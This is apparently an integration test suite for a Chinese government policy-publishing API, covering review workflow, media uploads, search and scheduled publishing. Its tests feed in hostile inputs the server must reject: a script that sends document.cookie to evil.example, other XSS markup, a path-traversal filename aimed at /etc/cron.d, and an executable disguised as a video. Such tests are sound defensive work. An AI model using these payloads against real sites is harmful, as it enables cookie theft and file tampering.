import { mediaFixture, policyInput, uploadAs } from './support/content';
import { png, upload, windowsExecutable } from './support/files';
import { freePort, startServer, StartedServer } from './support/server';

const DEMO_PASSWORD = 'GovOpen@2026';
// Monday 2026-11-23, 10:00 in China: drafts, reviews and publications happen on this day unless a test moves the clock.
const PINNED = '2026-11-23T02:00:00Z';

describe('policies and interpretations: 保密审查, publication, media, search', () => {
  let server: StartedServer;
  let author: string;
  let reviewer: string;
  let publisher: string;
  let resident: string;
  let policyId: number;
  let videoId: number;
  let captionsId: number;
  let posterId: number;
  let interpretationId: number;
  let port: string;

  const login = async (username: string) => (await server.api().admin.login({ username, password: DEMO_PASSWORD })).token;
  const review = (token: string, type: 'policies' | 'interpretations', id: number, body: object) => server.request('POST', `/api/admin/${type}/${id}/review`, { token, body });

  const signIn = async () => {
    [author, reviewer, publisher] = await Promise.all([login('handler'), login('reviewer'), login('publisher')]);
  };
  /** Restarts on the same database with the clock at `iso`; staff sign in again rather than rely on old tokens surviving. */
  const moveClockTo = async (iso: string) => {
    const database = server.database;
    await server.stop_keepDatabase();
    server = await startServer({ CLOCK_NOW: iso, PORT: port }, database);
    await signIn();
  };

  beforeAll(async () => {
    port = String(await freePort());
    server = await startServer({ CLOCK_NOW: PINNED, PORT: port });
    await signIn();
    resident = (await server.api().auth.devLogin('reader')).token;
  });
  afterAll(() => server.stop());

  describe('POST /admin/policies', () => {
    it.each([
      ['a script tag', '<p>通知</p><script>fetch("https://evil.example/"+document.cookie)</script>', '<script> 脚本'],
      ['an event handler on an image', '<p>通知</p><img src="x" onerror="alert(1)">', '事件处理属性'],
      ['a javascript: link', '<a href="javascript:alert(1)">点此</a>', 'javascript: 链接'],
      ['an iframe', '<iframe src="https://evil.example"></iframe>', 'iframe'],
    ])('refuses a body with %s, naming the field, and stores nothing', async (_case, bodyHtml, named) => {
      const { status, body } = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput({ bodyHtml }) });
      expect(status).toBe(400);
      expect(body.field).toBe('bodyHtml');
      expect(body.message).toContain(named);
      expect((await server.request('GET', '/api/admin/policies', { token: author })).body.total).toBe(0);
    });

    it('drops markup outside the allow-list and keeps the rest', async () => {
      const { status, body } = await server.request('POST', '/api/admin/policies', {
        token: author,
        body: policyInput({ bodyHtml: '<p style="color:red;text-align:center" class="x">正文<marquee>滚动</marquee></p><a href="https://www.weihai.gov.cn">链接</a>' }),
      });
      expect(status).toBe(201);
      expect(body.bodyHtml).toBe('<p style="text-align:center">正文滚动</p><a href="https://www.weihai.gov.cn" target="_blank" rel="noopener noreferrer">链接</a>');
      expect(body).toMatchObject({ status: 'draft', statusLabel: '草稿', validityLabel: '有效', authorName: expect.stringContaining('李承办') });
    });

    it('refuses bad fields with the field named', async () => {
      const cases: [Record<string, unknown>, string][] = [
        [{ title: '通知' }, 'title'],
        [{ writtenDate: '2026-13-45' }, 'writtenDate'],
        [{ validity: 'gone' }, 'validity'],
        [{ catalogNodeId: 99999 }, 'catalogNodeId'],
        [{ attachmentIds: [424242] }, 'attachmentIds'],
      ];
      for (const [override, field] of cases) {
        const { status, body } = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput(override) });
        expect([status, body.field]).toEqual([400, field]);
      }
    });
  });

  describe('review before publishing', () => {
    it('runs draft → submitted → returned → resubmitted → approved → published, each step by the right person', async () => {
      const attachment = await uploadAs(server.baseUrl, author, 'policy_attachment', '申报表.pdf', Buffer.from('%PDF-1.4\n%%EOF\n'));
      const catalog = (await server.request('GET', '/api/catalog')).body;
      const catalogNodeId = catalog[0].children[0].id;
      const created = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput({ attachmentIds: [attachment], catalogNodeId }) });
      expect(created.status).toBe(201);
      policyId = created.body.id;
      expect(created.body.attachments).toHaveLength(1);

      expect((await review(publisher, 'policies', policyId, { action: 'publish' })).status).toBe(409);
      expect((await review(author, 'policies', policyId, { action: 'submit' })).body.status).toBe('submitted');
      // The author holds no reviewer role; a reviewer must give reasons to return.
      expect((await review(author, 'policies', policyId, { action: 'approve' })).status).toBe(403);
      const bare = await review(reviewer, 'policies', policyId, { action: 'return' });
      expect([bare.status, bare.body.field]).toEqual([400, 'comment']);
      const returned = await review(reviewer, 'policies', policyId, { action: 'return', comment: '第二段涉及未公开的企业名单，请删除后再报' });
      expect(returned.body).toMatchObject({ status: 'returned', reviewComment: '第二段涉及未公开的企业名单，请删除后再报', reviewerName: expect.stringContaining('赵审核') });

      // Submitted text cannot change under the reviewer; a returned one can, by its author only.
      const edited = await server.request('PUT', `/api/admin/policies/${policyId}`, { token: author, body: policyInput({ attachmentIds: [attachment], catalogNodeId, bodyHtml: '<p>修改后的正文：对开展数字化转型的中小企业给予补贴。</p>' }) });
      expect(edited.status).toBe(200);
      expect((await server.request('PUT', `/api/admin/policies/${policyId}`, { token: reviewer, body: policyInput() })).status).toBe(403);
      await review(author, 'policies', policyId, { action: 'submit' });
      expect((await server.request('PUT', `/api/admin/policies/${policyId}`, { token: author, body: policyInput() })).status).toBe(409);
      expect((await review(reviewer, 'policies', policyId, { action: 'approve' })).body.status).toBe('approved');
      expect((await review(reviewer, 'policies', policyId, { action: 'publish' })).status).toBe(403);
      const published = await review(publisher, 'policies', policyId, { action: 'publish' });
      expect(published.body).toMatchObject({ status: 'published', publisherName: expect.stringContaining('孙发布') });
      expect(published.body.history.map((step: { action: string }) => step.action)).toEqual(['created', 'submit', 'return', 'edited', 'submit', 'approve', 'publish']);

      const audit = await server.request('GET', `/api/admin/audit-logs?targetType=policy&pageSize=50`, { token: await login('admin') });
      expect(audit.body.items.map((entry: { action: string }) => entry.action)).toEqual(expect.arrayContaining(['policy.created', 'policy.return', 'policy.approve', 'policy.publish']));
    });

    it('shows the published document to residents with its attachment, and the catalog node as updated', async () => {
      const list = await server.request('GET', '/api/policies?validity=valid');
      expect(list.body.items.map((item: { id: number }) => item.id)).toContain(policyId);
      const { status, body } = await server.request('GET', `/api/policies/${policyId}`);
      expect(status).toBe(200);
      expect(body).toMatchObject({ documentNumber: '威工信发〔2026〕12号', validityLabel: '有效', interpretations: [] });
      expect(body.bodyHtml).toContain('修改后的正文');
      const file = await fetch(`${server.baseUrl}${body.attachments[0].url}`);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-disposition')).toContain('attachment');
      const staffCatalog = await server.request('GET', '/api/admin/catalog', { token: author });
      expect(staffCatalog.body[0].children[0].lastPublishedDate).toBe('2026-11-23');
    });
  });

  describe('interpretation media', () => {
    it('refuses an .exe named .mp4, an oversized caption file, a climbing name, and staff-only purposes from residents', async () => {
      const exe = await upload(server.baseUrl, '/api/admin/media?purpose=video', author, '解读视频.mp4', windowsExecutable());
      expect(exe.status).toBe(415);
      expect(exe.body.message).toContain('Windows 可执行程序');
      expect(exe.body.message).toContain('MP4 或 WebM 视频');
      const big = await upload(server.baseUrl, '/api/admin/media?purpose=captions', author, 'big.vtt', Buffer.concat([Buffer.from('WEBVTT\n\n'), Buffer.alloc(1024 * 1024 + 1, 0x61)]));
      expect([big.status, big.body.message]).toEqual([413, '文件超过 1 MB，请压缩后再上传']);
      const climbing = await upload(server.baseUrl, '/api/admin/media?purpose=video', author, '../../../etc/cron.d/x.mp4', mediaFixture('policy-video.mp4'));
      expect([climbing.status, climbing.body.field]).toEqual([400, 'file']);
      const notVtt = await upload(server.baseUrl, '/api/admin/media?purpose=captions', author, 'subs.vtt', Buffer.from('1\n00:00:01,000 --> 00:00:02,000\nSRT, not WebVTT\n'));
      expect(notVtt.status).toBe(415);
      expect(notVtt.body.message).toContain('WEBVTT');
      const residentVideo = await upload(server.baseUrl, '/api/media?purpose=video', resident, 'a.mp4', mediaFixture('policy-video.mp4'));
      expect([residentVideo.status, residentVideo.body.field]).toEqual([400, 'purpose']);
    });

    it('takes a video with captions and poster through review; an incomplete one is sent back at submission', async () => {
      videoId = await uploadAs(server.baseUrl, author, 'video', '解读视频.mp4', mediaFixture('policy-video.mp4'));
      captionsId = await uploadAs(server.baseUrl, author, 'captions', '字幕.vtt', mediaFixture('policy-video.vtt'));
      posterId = await uploadAs(server.baseUrl, author, 'poster', '封面.jpg', mediaFixture('poster.jpg'));
      const wrongSlot = await server.request('POST', '/api/admin/interpretations', { token: author, body: { policyId, title: '一分钟看懂数字化转型补贴', form: 'video', mediaId: captionsId } });
      expect([wrongSlot.status, wrongSlot.body.field]).toEqual([400, 'mediaId']);

      const created = await server.request('POST', '/api/admin/interpretations', { token: author, body: { policyId, title: '一分钟看懂数字化转型补贴', form: 'video', mediaId: videoId, posterId } });
      expect(created.status).toBe(201);
      interpretationId = created.body.id;
      const incomplete = await review(author, 'interpretations', interpretationId, { action: 'submit' });
      expect([incomplete.status, incomplete.body.field]).toEqual([400, 'captionsId']);
      await server.request('PUT', `/api/admin/interpretations/${interpretationId}`, { token: author, body: { policyId, title: '一分钟看懂数字化转型补贴', form: 'video', mediaId: videoId, posterId, captionsId, bodyHtml: '<p>视频解读</p>' } });
      await review(author, 'interpretations', interpretationId, { action: 'submit' });
      // Before publication its media are reachable only by a signed preview link.
      const preview = await server.request('GET', `/api/admin/interpretations/${interpretationId}`, { token: reviewer });
      expect(preview.body.media.url).toContain('signature=');
      expect((await fetch(`${server.baseUrl}${preview.body.media.url}`)).status).toBe(200);
      expect((await fetch(`${server.baseUrl}/api/media/${videoId}/content`)).status).toBe(404);
      await review(reviewer, 'interpretations', interpretationId, { action: 'approve' });
      expect((await review(publisher, 'interpretations', interpretationId, { action: 'publish' })).body.status).toBe('published');
    });

    it('links policy and interpretation both ways and serves the video in ranges so it can seek', async () => {
      const policy = (await server.request('GET', `/api/policies/${policyId}`)).body;
      expect(policy.interpretations).toEqual([expect.objectContaining({ id: interpretationId, form: 'video', formLabel: '视频解读' })]);
      expect(policy.interpretationForms).toEqual(['video']);
      const { body } = await server.request('GET', `/api/interpretations/${interpretationId}`);
      expect(body.policy).toMatchObject({ id: policyId, documentNumber: '威工信发〔2026〕12号' });
      expect(body.captions.mime).toBe('text/vtt');
      const list = await server.request('GET', '/api/interpretations?form=video');
      expect(list.body.items[0]).toMatchObject({ id: interpretationId, posterUrl: expect.stringMatching(/^\/api\/media\/\d+\/content$/) });

      const whole = mediaFixture('policy-video.mp4');
      const ranged = await fetch(`${server.baseUrl}${body.media.url}`, { headers: { range: 'bytes=1000-1999' } });
      expect(ranged.status).toBe(206);
      expect(ranged.headers.get('content-range')).toBe(`bytes 1000-1999/${whole.length}`);
      expect(Buffer.from(await ranged.arrayBuffer()).equals(whole.subarray(1000, 2000))).toBe(true);
      const tail = await fetch(`${server.baseUrl}${body.media.url}`, { headers: { range: 'bytes=-500' } });
      expect(Buffer.from(await tail.arrayBuffer()).equals(whole.subarray(whole.length - 500))).toBe(true);
      expect((await fetch(`${server.baseUrl}${body.media.url}`, { headers: { range: `bytes=${whole.length}-` } })).status).toBe(416);
      const captions = await fetch(`${server.baseUrl}${body.captions.url}`);
      expect(captions.headers.get('content-type')).toBe('text/vtt; charset=utf-8');
      expect(await captions.text()).toContain('数字化转型补贴资金管理办法');
    });

    it('refuses to publish an interpretation before its policy', async () => {
      const draft = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput({ title: '关于开展2026年度专精特新中小企业认定工作的通知' }) });
      const item = await server.request('POST', '/api/admin/interpretations', { token: author, body: { policyId: draft.body.id, title: '专精特新认定问答', form: 'text', bodyHtml: '<p>问：谁可以申报？</p>' } });
      await review(author, 'interpretations', item.body.id, { action: 'submit' });
      await review(reviewer, 'interpretations', item.body.id, { action: 'approve' });
      const early = await review(publisher, 'interpretations', item.body.id, { action: 'publish' });
      expect(early.status).toBe(409);
      expect(early.body.message).toContain('尚未发布');
    });
  });

  describe('GET /search', () => {
    it.each([
      ['words', '数字化转型补贴'],
      ['pinyin initials', 'szhzx'],
      ['full pinyin', 'shuzihuazhuanxing'],
      ['a homophone typo', '数字化转形'],
      ['a near-synonym', '数字化转型补助'],
    ])('finds the published policy by %s', async (_case, q) => {
      const { status, body } = await server.request('GET', `/api/search?q=${encodeURIComponent(q)}&type=policy`);
      expect(status).toBe(200);
      expect(body.items[0]).toMatchObject({ type: 'policy', id: policyId, validityLabel: '有效' });
      expect(body.items[0].highlight).toContain('<em>');
    });

    it('finds the interpretation by form, and never a draft', async () => {
      const { body } = await server.request('GET', `/api/search?q=${encodeURIComponent('看懂')}&type=interpretation&form=video`);
      expect(body.items.map((item: { id: number }) => item.id)).toEqual([interpretationId]);
      const drafts = await server.request('GET', `/api/search?q=${encodeURIComponent('专精特新认定')}`);
      expect(drafts.body.total).toBe(0);
    });

    it('suggests as the resident types, and refuses a missing query with the field named', async () => {
      const { body } = await server.request('GET', '/api/search/suggest?q=szh');
      expect(body.items.some((text: string) => text.includes('数字化'))).toBe(true);
      const missing = await server.request('GET', '/api/search');
      expect([missing.status, missing.body.field]).toEqual([400, 'q']);
    });

    it('drops a withdrawn document from search and from the public API at once', async () => {
      const other = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput({ title: '威海市新能源汽车推广应用实施方案', needsInterpretation: false }) });
      for (const [token, action] of [[author, 'submit'], [reviewer, 'approve'], [publisher, 'publish']] as const) await review(token, 'policies', other.body.id, { action });
      expect((await server.request('GET', `/api/search?q=xnyqc`)).body.items[0].id).toBe(other.body.id);
      const withdrawn = await review(publisher, 'policies', other.body.id, { action: 'withdraw', comment: '内容有误，更正后重新发布' });
      expect(withdrawn.body.status).toBe('withdrawn');
      expect((await server.request('GET', `/api/search?q=xnyqc`)).body.total).toBe(0);
      expect((await server.request('GET', `/api/policies/${other.body.id}`)).status).toBe(404);
    });
  });

  describe('validity, scheduling, compliance', () => {
    it('repeals a published document naming its replacement, without a new review, and ranks it below valid ones', async () => {
      const newer = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput({ title: '威海市中小企业数字化转型补贴资金管理办法（修订）' }) });
      const refused = await server.request('POST', `/api/admin/policies/${policyId}/validity`, { token: author, body: { validity: 'repealed', replacedById: newer.body.id } });
      expect(refused.status).toBe(403);
      const { status, body } = await server.request('POST', `/api/admin/policies/${policyId}/validity`, { token: publisher, body: { validity: 'repealed', replacedById: newer.body.id } });
      expect(status).toBe(200);
      expect(body).toMatchObject({ validity: 'repealed', validityLabel: '废止', replacedBy: { id: newer.body.id } });
      const search = await server.request('GET', `/api/search?q=szhzx&validity=repealed&type=policy`);
      expect(search.body.items[0]).toMatchObject({ id: policyId, validityLabel: '废止' });
    });

    it('publishes at the scheduled time', async () => {
      const later = await server.request('POST', '/api/admin/policies', { token: author, body: policyInput({ title: '关于举办2026年工业互联网平台应用培训班的通知', needsInterpretation: false }) });
      await review(author, 'policies', later.body.id, { action: 'submit' });
      await review(reviewer, 'policies', later.body.id, { action: 'approve' });
      // Tuesday 09:00 in China, the next morning.
      const at = '2026-11-24T01:00:00.000Z';
      const scheduled = await review(publisher, 'policies', later.body.id, { action: 'publish', publishAt: at });
      expect(scheduled.body).toMatchObject({ status: 'scheduled', statusLabel: '定时发布', scheduledAt: at });
      expect((await server.request('GET', `/api/policies/${later.body.id}`)).status).toBe(404);
      expect((await server.request('POST', '/api/admin/publishing/run-scheduled', { token: publisher })).body.published).toBe(0);

      // The scan runs half an hour late; the document still carries the time it was scheduled for.
      await moveClockTo('2026-11-24T01:30:00Z');
      const run = await server.request('POST', '/api/admin/publishing/run-scheduled', { token: publisher });
      expect(run.body.published).toBe(1);
      const published = await server.request('GET', `/api/policies/${later.body.id}`);
      expect(published.status).toBe(200);
      expect(published.body.publishedAt).toBe(at);
      const history = (await server.request('GET', `/api/admin/policies/${later.body.id}`, { token: author })).body.history;
      expect(history.at(-1)).toMatchObject({ action: 'auto_published', actorName: '系统' });
    });

    it('reports the year’s interpretation mix and catalog lateness', async () => {
      const { status, body } = await server.request('GET', '/api/admin/publishing/compliance', { token: reviewer });
      expect(status).toBe(200);
      expect(body).toMatchObject({ year: 2026, interpretations: 1, chartAudioVideo: 1, videoAnimation: 1 });
      expect(body.flags.map((flag: { kind: string }) => flag.kind).slice(0, 4)).toEqual(['missing_interpretation', 'chart_audio_video_share', 'video_share', 'catalog_late']);
      expect(body.flags.find((flag: { kind: string }) => flag.kind === 'video_share').severity).toBe('ok');
    });
  });

  it('serves nothing for an unknown or unattached file, and a PNG poster is not accepted as a video', async () => {
    expect((await fetch(`${server.baseUrl}/api/media/999999/content`)).status).toBe(404);
    expect((await fetch(`${server.baseUrl}/api/media/abc/content`)).status).toBe(404);
    const wrong = await upload(server.baseUrl, '/api/admin/media?purpose=video', author, 'clip.mp4', png());
    expect(wrong.status).toBe(415);
    expect(wrong.body.message).toContain('PNG 图片');
  });
});
